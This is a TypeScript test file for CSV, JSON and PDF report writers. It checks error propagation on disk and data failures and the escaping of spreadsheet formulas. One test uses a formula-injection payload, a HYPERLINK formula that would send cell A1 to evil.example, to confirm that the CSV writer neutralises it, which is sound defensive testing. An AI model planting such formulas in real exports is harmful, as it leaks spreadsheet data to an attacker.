import { Writable } from 'node:stream';
import type { ReportDocument } from './report-document';
import { writeCsv, writeJson, writePdf } from './writers';

const doc = (rows: AsyncIterable<Record<string, string>>): ReportDocument => ({
  title: 'Test',
  subtitle: '',
  asOf: '2026-11-30',
  language: 'en',
  facts: [],
  currency: 'EUR',
  timeZone: 'Europe/Berlin',
  reference: 'MS-2026-0001',
  logo: null,
  chart: null,
  counts: {},
  tables: [{ key: 'x', title: 'X', columns: [{ key: 'a', label: 'A' }], rows }],
});
async function* many() {
  for (let i = 0; i < 3000; i++) yield { a: `row ${i}` };
}
/** A file that fails on its third write, like a full disk. */
const failingFile = () => {
  let writes = 0;
  return new Writable({
    write(_chunk, _encoding, callback) {
      callback(writes++ > 2 ? new Error('disk full') : null);
    },
  });
};
const sink = () =>
  new Writable({
    write(_chunk, _encoding, callback) {
      callback();
    },
  });

describe('report writers', () => {
  it.each([
    ['CSV', writeCsv],
    ['JSON', writeJson],
    ['PDF', writePdf],
  ])(
    '%s fails (does not hang) when the file fails, and when the rows fail',
    async (_name, write) => {
      await expect(write(doc(many()), failingFile())).rejects.toThrow('disk full');
      async function* broken() {
        yield { a: 'one' };
        throw new Error('database gone');
      }
      const out = sink();
      await expect(write(doc(broken()), out)).rejects.toThrow('database gone');
      expect(out.destroyed).toBe(true);
    },
  );

  it('escapes cells a spreadsheet would run as formulas', async () => {
    let text = '';
    const out = new Writable({
      write(chunk: Buffer, _encoding, callback) {
        text += chunk.toString();
        callback();
      },
    });
    async function* rows() {
      yield { a: '=HYPERLINK("http://evil.example/?"&A1,"click")' };
    }
    await writeCsv(doc(rows()), out);
    expect(text).toContain(`"'=HYPERLINK`);
  });
});
